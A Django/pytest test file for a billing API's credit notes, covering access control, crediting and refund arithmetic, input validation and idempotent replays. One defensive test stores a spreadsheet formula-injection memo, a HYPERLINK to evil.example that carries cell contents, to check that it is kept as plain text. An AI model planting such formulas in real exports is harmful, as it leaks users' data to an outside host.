"""Credit notes through the API: staff issue them (POST /api/invoices/{id}/credit-notes); customers list, read and
download their own (GET /api/credit-notes, /api/credit-notes/{id}, /api/credit-notes/{id}/pdf)."""

import pytest

from billing.enums import InvoiceStatus
from billing.models import CreditNote, Invoice
from billing.services.credit_notes import credit_note_issue
from billing.services.invoices import InvoiceLineInput, invoice_issue
from billing_site.tests.helpers import jwt_client

from ..factories import InvoiceFactory, StaffUserFactory, UserFactory

pytestmark = pytest.mark.django_db

LIST = "/api/credit-notes"


def _issue_path(invoice_id):
    return f"/api/invoices/{invoice_id}/credit-notes"


def _credit(invoice, **options):
    """A credit note issued by the system (no actor), for tests about reading it."""
    options.setdefault("reason", "goodwill")
    return credit_note_issue(invoice=invoice, actor=None, **options)


@pytest.fixture
def two_lines(customer):
    """An open invoice of 60,000 + 40,000 won supply, 10,000 VAT: 110,000 won."""
    return invoice_issue(
        customer=customer,
        lines=[InvoiceLineInput(description="Pro 플랜", unit_amount=60_000), InvoiceLineInput("설치비", 40_000)],
    )


# --- customers: their own credit notes, nobody else's --------------------------------------------------------------


def test_the_list_shows_only_the_callers_own_newest_first(
    customer, other_customer, customer_client, other_customer_client, issue
):
    first = _credit(issue(10_000), amount=1_100)
    second = _credit(issue(20_000), amount=2_200)
    theirs = _credit(issue(30_000, customer=other_customer), amount=3_300)
    mine = customer_client.get(LIST)
    assert mine.status_code == 200, mine.content
    body = mine.json()
    assert (body["total"], body["limit"], body["offset"]) == (2, 20, 0)
    assert [note["id"] for note in body["results"]] == [second.pk, first.pk]
    assert [note["id"] for note in other_customer_client.get(LIST + "/").json()["results"]] == [theirs.pk]


def test_the_list_filters_by_invoice(customer, customer_client, issue):
    invoice, another = issue(10_000), issue(20_000)
    notes = [_credit(invoice, amount=1_000), _credit(another, amount=1_000), _credit(invoice, amount=1_000)]
    response = customer_client.get(LIST, {"invoice_id": invoice.pk})
    assert [note["id"] for note in response.json()["results"]] == [notes[2].pk, notes[0].pk]
    assert customer_client.get(LIST, {"invoice_id": 987_654}).json()["total"] == 0


@pytest.mark.parametrize("value", ["", "abc", "0", "-1", "1.5", "1" * 19])
def test_a_bad_invoice_filter_is_refused(customer, customer_client, value):
    response = customer_client.get(LIST, {"invoice_id": value})
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert (error["code"], list(error["fields"])) == ("validation_error", ["invoice_id"])


def test_the_detail_shows_amounts_lines_and_refunds(customer, customer_client, two_lines):
    lines = list(two_lines.lines.order_by("position"))
    note = _credit(two_lines, amount=33_000, memo="설치 취소")
    response = customer_client.get(f"{LIST}/{note.pk}")
    assert response.status_code == 200, response.content
    body = response.json()
    assert {key: body[key] for key in ("number", "invoice_id", "invoice_number", "currency", "reason", "memo")} == {
        "number": note.number,
        "invoice_id": two_lines.pk,
        "invoice_number": two_lines.number,
        "currency": "KRW",
        "reason": "goodwill",
        "memo": "설치 취소",
    }
    assert (body["subtotal"], body["tax"], body["total"]) == (30_000, 3_000, 33_000)
    assert (body["pre_payment_amount"], body["refund_amount"], body["balance_amount"]) == (33_000, 0, 0)
    assert body["refunds"] == []
    assert sum(line["amount"] for line in body["lines"]) == 30_000
    assert {line["invoice_line_id"] for line in body["lines"]} <= {line.pk for line in lines}
    assert body["issue_date"] == note.issue_date.isoformat()
    # The PDF renders after the commit (a job); until then there is no link to follow.
    assert (body["pdf_status"], body["urls"]) == ("pending", {"pdf": None})


def test_a_refund_is_shown_with_its_method_and_status(customer, customer_client, billing_staff_user):
    invoice = InvoiceFactory.create(customer=customer, status=InvoiceStatus.PAID)
    note = credit_note_issue(
        invoice=invoice, reason="duplicate", actor=billing_staff_user, bank_reference="KB-OUT-0001"
    )
    body = customer_client.get(f"{LIST}/{note.pk}").json()
    assert (body["pre_payment_amount"], body["refund_amount"], body["balance_amount"]) == (0, invoice.total, 0)
    assert [(r["method"], r["status"], r["amount"], r["currency"]) for r in body["refunds"]] == [
        ("bank_transfer", "succeeded", invoice.total, "KRW")
    ]
    assert body["refunds"][0]["succeeded_at"] is not None


def test_another_customers_credit_note_is_404(customer, other_customer_client, issue):
    note = _credit(issue(10_000), amount=1_000)
    for path in (f"{LIST}/{note.pk}", f"{LIST}/{note.pk}/pdf"):
        response = other_customer_client.get(path)
        assert (response.status_code, response.json()["error"]["code"]) == (404, "not_found"), path


def test_unknown_ids_are_404(customer, customer_client):
    for path in (f"{LIST}/987654", f"{LIST}/987654/pdf", f"{LIST}/{'9' * 19}", f"{LIST}/abc"):
        assert customer_client.get(path).status_code == 404, path


def test_without_a_billing_profile_the_list_is_empty(customer_user, customer_client):
    assert customer_client.get(LIST).json() == {"total": 0, "limit": 20, "offset": 0, "results": []}
    assert customer_client.get(f"{LIST}/1").status_code == 404


def test_anonymous_is_401(api_client):
    assert api_client.get(LIST).status_code == 401
    assert api_client.get(f"{LIST}/1").status_code == 401


def test_the_pdf_redirects_to_a_fresh_signed_url(customer, customer_client, issue):
    note = _credit(issue(10_000), amount=1_000)
    response = customer_client.get(f"{LIST}/{note.pk}/pdf")
    assert response.status_code == 302, response.content
    assert response["Location"].startswith("http")
    assert response["Cache-Control"] == "private, no-store"
    note.refresh_from_db()
    assert note.pdf_status == "ready"  # rendered on the spot, as a pending invoice PDF is
    link = customer_client.get(f"{LIST}/{note.pk}").json()["urls"]["pdf"]
    assert link == f"http://testserver{LIST}/{note.pk}/pdf"


@pytest.mark.parametrize("notes", [1, 12])
def test_list_queries_do_not_grow_with_the_page(
    customer, customer_client, billing_staff_user, django_assert_max_num_queries, notes
):
    for _ in range(notes):
        invoice = InvoiceFactory.create(customer=customer, subtotal=10_000, status=InvoiceStatus.PAID)
        credit_note_issue(invoice=invoice, reason="other", actor=billing_staff_user, settlement="balance")
    # user (JWT), customer, count, the page with its invoices, its lines, its refunds
    with django_assert_max_num_queries(6):
        response = customer_client.get(LIST)
    assert len(response.json()["results"]) == notes
    assert all(note["refunds"] for note in response.json()["results"])


# --- staff: issuing one ------------------------------------------------------------------------------------------


def test_customers_and_support_get_403_and_nothing_is_issued(
    customer, customer_client, other_customer_client, support_client, issue
):
    invoice = issue(10_000)
    staff_without_group = jwt_client(StaffUserFactory.create(username="flag-only"))
    for client in (customer_client, other_customer_client, support_client, staff_without_group):
        response = client.post(_issue_path(invoice.pk), {"reason": "goodwill"}, format="json")
        assert (response.status_code, response.json()["error"]["code"]) == (403, "permission_denied")
    assert CreditNote.objects.count() == 0
    invoice.refresh_from_db()
    assert (invoice.amount_credited, invoice.amount_remaining) == (0, invoice.total)


def test_403_comes_before_404(customer_client, support_client, billing_staff_client):
    path = _issue_path(987_654)
    assert customer_client.post(path, {"reason": "goodwill"}, format="json").status_code == 403
    jwt_user = jwt_client(UserFactory.create(username="anyone"))
    assert jwt_user.post(path, {"reason": "goodwill"}, format="json").status_code == 403
    # Support may look invoices up (billing.view_invoice): for them an unknown id is 404.
    assert support_client.post(path, {"reason": "goodwill"}, format="json").status_code == 404
    assert billing_staff_client.post(path, {"reason": "goodwill"}, format="json").status_code == 404


def test_billing_staff_credit_an_open_invoice_in_part(customer, billing_staff_client, billing_staff_user, issue):
    invoice = issue(99_000)  # 108,900 won
    response = billing_staff_client.post(
        _issue_path(invoice.pk) + "/", {"reason": "order_change", "amount": 11_000, "memo": "1개월 할인"}, format="json"
    )
    assert response.status_code == 201, response.content
    body = response.json()
    note = CreditNote.objects.get()
    assert (body["credit_note"]["id"], body["credit_note"]["number"]) == (note.pk, note.number)
    assert (body["credit_note"]["subtotal"], body["credit_note"]["tax"], body["credit_note"]["total"]) == (
        10_000,
        1_000,
        11_000,
    )
    assert body["credit_note"]["pre_payment_amount"] == 11_000
    assert (body["invoice"]["id"], body["invoice"]["status"]) == (invoice.pk, "open")
    assert (body["invoice"]["amount_remaining"], body["invoice"]["amount_credited"]) == (97_900, 11_000)
    assert note.created_by == billing_staff_user
    assert note.memo == "1개월 할인"


def test_crediting_all_that_is_left_settles_an_open_invoice(customer, billing_staff_client, issue):
    invoice = issue(10_000)
    response = billing_staff_client.post(_issue_path(invoice.pk), {"reason": "duplicate"}, format="json")
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["credit_note"]["total"] == 11_000
    assert (body["invoice"]["status"], body["invoice"]["amount_remaining"]) == ("paid", 0)
    again = billing_staff_client.post(_issue_path(invoice.pk), {"reason": "duplicate"}, format="json")
    assert (again.status_code, again.json()["error"]["code"]) == (409, "nothing_to_credit")


def test_a_paid_invoice_credited_to_the_balance_shows_in_the_ledger(customer, customer_client, billing_staff_client):
    invoice = InvoiceFactory.create(customer=customer, status=InvoiceStatus.PAID)
    response = billing_staff_client.post(
        _issue_path(invoice.pk), {"reason": "goodwill", "amount": 5_500, "settlement": "balance"}, format="json"
    )
    assert response.status_code == 201, response.content
    note = response.json()["credit_note"]
    assert (note["balance_amount"], note["refund_amount"], note["pre_payment_amount"]) == (5_500, 0, 0)
    assert [(r["method"], r["status"]) for r in note["refunds"]] == [("balance", "succeeded")]
    ledger = customer_client.get("/api/payment/balance").json()
    assert ledger["balances"] == [{"currency": "KRW", "balance": 5_500}]
    entry = ledger["entries"][0]
    assert (entry["kind"], entry["amount"], entry["credit_note_id"], entry["invoice_id"]) == (
        "credit_note",
        5_500,
        note["id"],
        invoice.pk,
    )


def test_a_bank_transfer_refund_needs_its_reference(customer, billing_staff_client):
    invoice = InvoiceFactory.create(customer=customer, status=InvoiceStatus.PAID)
    refused = billing_staff_client.post(_issue_path(invoice.pk), {"reason": "duplicate"}, format="json")
    assert (refused.status_code, refused.json()["error"]["code"]) == (400, "bank_reference_required")
    assert CreditNote.objects.count() == 0
    done = billing_staff_client.post(
        _issue_path(invoice.pk), {"reason": "duplicate", "bank_reference": "KB-OUT-7"}, format="json"
    )
    assert done.status_code == 201, done.content
    assert done.json()["invoice"]["amount_refunded"] == invoice.total


def test_lines_are_credited_by_their_supply_amounts(customer, billing_staff_client, two_lines):
    setup = two_lines.lines.get(description="설치비")
    response = billing_staff_client.post(
        _issue_path(two_lines.pk),
        {"reason": "order_change", "lines": [{"line_id": setup.pk, "amount": 40_000}]},
        format="json",
    )
    assert response.status_code == 201, response.content
    note = response.json()["credit_note"]
    assert note["lines"] == [{"invoice_line_id": setup.pk, "description": setup.description, "amount": 40_000}]
    # The smallest total whose supply part is 40,000: VAT credited so far = floor(10,000 * total / 110,000).
    assert (note["subtotal"], note["tax"], note["total"]) == (40_000, 3_999, 43_999)


# --- hostile input --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("amount", "status", "code"),
    [
        (-1, 400, "invalid_amount"),
        (0, 400, "invalid_amount"),
        (10**30, 400, "invalid_amount"),
        (10**15, 409, "amount_exceeds_creditable"),
        (1000.0, 400, "validation_error"),
        (1000.5, 400, "validation_error"),
        ("1000", 400, "validation_error"),
        (True, 400, "validation_error"),
        (None, 400, "validation_error"),
        ([1000], 400, "validation_error"),
    ],
)
def test_bad_amounts_are_refused(customer, billing_staff_client, issue, amount, status, code):
    invoice = issue(10_000)
    response = billing_staff_client.post(
        _issue_path(invoice.pk), {"reason": "goodwill", "amount": amount}, format="json"
    )
    assert (response.status_code, response.json()["error"]["code"]) == (status, code), response.content
    assert CreditNote.objects.count() == 0


@pytest.mark.parametrize(
    ("line", "status", "code"),
    [
        ({"line_id": 987_654, "amount": 1_000}, 400, "invalid_line"),
        ({"line_id": "theirs", "amount": 1_000}, 400, "invalid_line"),
        ({"line_id": 10**19, "amount": 1_000}, 400, "validation_error"),
        ({"line_id": "mine", "amount": -5}, 400, "invalid_amount"),
        ({"line_id": "mine", "amount": 10**30}, 400, "invalid_amount"),
        ({"line_id": "mine", "amount": 60_001}, 409, "amount_exceeds_creditable"),
        ({"line_id": "mine", "amount": 1.0}, 400, "validation_error"),
        ({"line_id": "mine", "amount": "1000"}, 400, "validation_error"),
        ({"line_id": "mine"}, 400, "validation_error"),
        ({"line_id": "mine", "amount": 1_000, "tax": 100}, 400, "validation_error"),
    ],
)
def test_bad_lines_are_refused(customer, other_customer, billing_staff_client, two_lines, issue, line, status, code):
    mine = two_lines.lines.get(description="Pro 플랜")
    theirs = issue(10_000, customer=other_customer).lines.get()
    line = {**line, "line_id": {"mine": mine.pk, "theirs": theirs.pk}.get(line["line_id"], line["line_id"])}
    response = billing_staff_client.post(
        _issue_path(two_lines.pk), {"reason": "goodwill", "lines": [line]}, format="json"
    )
    assert (response.status_code, response.json()["error"]["code"]) == (status, code), response.content
    assert CreditNote.objects.count() == 0


def test_a_line_named_twice_is_refused(customer, billing_staff_client, two_lines):
    line = two_lines.lines.get(description="Pro 플랜")
    twice = [{"line_id": line.pk, "amount": 1_000}, {"line_id": line.pk, "amount": 1_000}]
    response = billing_staff_client.post(
        _issue_path(two_lines.pk), {"reason": "goodwill", "lines": twice}, format="json"
    )
    assert (response.status_code, response.json()["error"]["code"]) == (400, "invalid_line")


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"reason": "goodwill", "refund_to": "balance"}, "unknown_field"),
        ({"reason": "goodwill", "Amount": 1_000}, "unknown_field"),
        ({"reason": "goodwill", "amount": 1_000, "lines": [{"line_id": 1, "amount": 1_000}]}, "validation_error"),
        ({"reason": "goodwill", "lines": []}, "validation_error"),
        ({"reason": "bogus"}, "validation_error"),
        ({"reason": ""}, "validation_error"),
        ({}, "validation_error"),
        ({"reason": "goodwill", "settlement": "cash"}, "validation_error"),
        ({"reason": "goodwill", "memo": "x" * 501}, "validation_error"),
        ({"reason": "goodwill", "memo": "첫 줄\n둘째 줄"}, "invalid_memo"),
        ({"reason": "goodwill", "bank_reference": "x" * 201}, "validation_error"),
    ],
)
def test_malformed_bodies_are_refused(customer, billing_staff_client, issue, body, code):
    invoice = issue(10_000)
    response = billing_staff_client.post(_issue_path(invoice.pk), body, format="json")
    assert (response.status_code, response.json()["error"]["code"]) == (400, code), response.content
    assert CreditNote.objects.count() == 0


def test_a_body_that_is_not_an_object_is_refused(customer, billing_staff_client, issue):
    invoice = issue(10_000)
    response = billing_staff_client.post(_issue_path(invoice.pk), '["goodwill"]', content_type="application/json")
    assert (response.status_code, response.json()["error"]["code"]) == (400, "validation_error")


def test_formula_text_in_the_memo_is_stored_as_text(customer, customer_client, billing_staff_client, issue):
    memo = '=HYPERLINK("http://evil.example/?x="&A1,"환불") +1 -2 @SUM(A1)'
    invoice = issue(10_000)
    response = billing_staff_client.post(
        _issue_path(invoice.pk), {"reason": "other", "amount": 1_100, "memo": memo}, format="json"
    )
    assert response.status_code == 201, response.content
    assert CreditNote.objects.get().memo == memo
    assert customer_client.get(f"{LIST}/{response.json()['credit_note']['id']}").json()["memo"] == memo


@pytest.mark.parametrize("status", [InvoiceStatus.DRAFT, InvoiceStatus.VOID])
def test_drafts_and_void_invoices_cannot_be_credited(customer, billing_staff_client, status):
    invoice = InvoiceFactory.create(customer=customer, status=status)
    response = billing_staff_client.post(_issue_path(invoice.pk), {"reason": "goodwill"}, format="json")
    assert (response.status_code, response.json()["error"]["code"]) == (409, "invoice_not_creditable")
    assert CreditNote.objects.count() == 0


# --- Idempotency-Key ------------------------------------------------------------------------------------------------


def test_a_replay_returns_the_same_credit_note_and_issues_one(customer, billing_staff_client, issue):
    invoice = issue(10_000)
    headers = {"Idempotency-Key": "cn-2026-11-28-0001"}
    body = {"reason": "goodwill", "amount": 1_100}
    first = billing_staff_client.post(_issue_path(invoice.pk), body, format="json", headers=headers)
    again = billing_staff_client.post(_issue_path(invoice.pk), body, format="json", headers=headers)
    assert (first.status_code, again.status_code) == (201, 201), first.content
    assert again.json() == first.json()
    assert again["Idempotent-Replayed"] == "true"
    assert CreditNote.objects.count() == 1
    assert Invoice.objects.get(pk=invoice.pk).amount_credited == 1_100
    reused = billing_staff_client.post(
        _issue_path(invoice.pk), {**body, "amount": 2_200}, format="json", headers=headers
    )
    assert (reused.status_code, reused.json()["error"]["code"]) == (422, "idempotency_key_reused")
    assert CreditNote.objects.count() == 1
